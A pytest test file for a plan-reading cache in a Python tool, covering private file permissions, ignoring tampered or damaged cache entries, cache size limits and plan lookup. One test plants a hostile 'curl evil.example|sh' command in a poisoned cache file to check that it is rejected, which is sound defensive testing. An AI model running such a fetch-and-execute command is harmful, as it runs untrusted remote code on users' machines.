"""A plan read once loads again at once, from the user's own folder only, and says the same."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from locust_tui.errors import NotFoundError, UsageError
from locust_tui.plans import cache
from locust_tui.plans.find import find_plan
from locust_tui.plans.reading import read_plan


@pytest.fixture
def plan(tmp_path: Path, framework_text: str) -> Path:
    path = tmp_path / "plan.yaml"
    path.write_text(framework_text)
    return path


def cached_files() -> list[Path]:
    return list((cache.user_state_folder() / "plans").glob("*.json"))


def test_second_reading_equals_the_first(plan: Path) -> None:
    first = read_plan(plan)
    assert len(cached_files()) == 1
    second = read_plan(plan)
    assert second == first
    assert read_plan(plan, cached=False) == first


def test_second_reading_loads_no_validator_and_no_parser(plan: Path) -> None:
    read_plan(plan)
    code = (
        "import sys; from locust_tui.plans.reading import load_plan; load_plan(sys.argv[1]);"
        "print([m for m in ('pydantic', 'yaml', 'ruamel.yaml', 'textual') if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code, str(plan)], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_warnings_follow_the_file_and_the_machine(
    plan: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    missing = [p for p in read_plan(plan).problems if p.code == "program"]
    assert len(missing) == 5
    program = tmp_path / "claude"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    other = plan.with_name("other.yaml")
    plan.rename(other)
    reading = read_plan(other)
    assert not [p for p in reading.problems if p.code == "program"]
    assert {p.file for p in reading.problems} == {str(other)}


def test_broken_plans_are_not_kept(tmp_path: Path) -> None:
    path = tmp_path / "plan.yaml"
    path.write_text("workstreams: {a: {}}\n")
    assert read_plan(path).plan is None
    assert not cached_files()


def test_cache_is_private_and_what_others_could_write_is_ignored(plan: Path) -> None:
    first = read_plan(plan)
    (file,) = cached_files()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700
    poisoned = file.read_bytes().replace(b"cargo test navigation", b"curl evil.example|sh  ")
    file.write_bytes(poisoned)
    file.chmod(0o666)
    assert read_plan(plan) == first


def test_damaged_cache_is_a_miss(plan: Path) -> None:
    first = read_plan(plan)
    (file,) = cached_files()
    file.write_bytes(b"{" + os.urandom(20))
    assert read_plan(plan) == first


def test_unwritable_cache_is_no_error(plan: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blocked = tmp_path / "blocked"
    blocked.write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(blocked))
    assert read_plan(plan).plan is not None


def test_cache_stays_small(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cache, "KEPT", 3)
    path = tmp_path / "plan.yaml"
    for number in range(6):
        path.write_text(f"workstreams: {{w{number}: {{run: make}}}}\n")
        read_plan(path)
    assert len(cached_files()) == 3


def test_project_without_a_name_is_called_like_its_folder(tmp_path: Path) -> None:
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "plan.yaml").write_text("workstreams: {a: {run: make}}\n")
        plan = read_plan(tmp_path / name / "plan.yaml").plan
        assert plan is not None
        assert plan.project.name == name


def test_plan_of_a_folder(tmp_path: Path) -> None:
    with pytest.raises(NotFoundError):
        find_plan(tmp_path)
    (tmp_path / "b.plan.yaml").touch()
    assert find_plan(tmp_path).name == "b.plan.yaml"
    (tmp_path / "a.plan.yaml").touch()
    with pytest.raises(UsageError, match=r"a\.plan\.yaml, b\.plan\.yaml"):
        find_plan(tmp_path)
    (tmp_path / "locust-plan.yaml").touch()
    assert find_plan(tmp_path).name == "locust-plan.yaml"
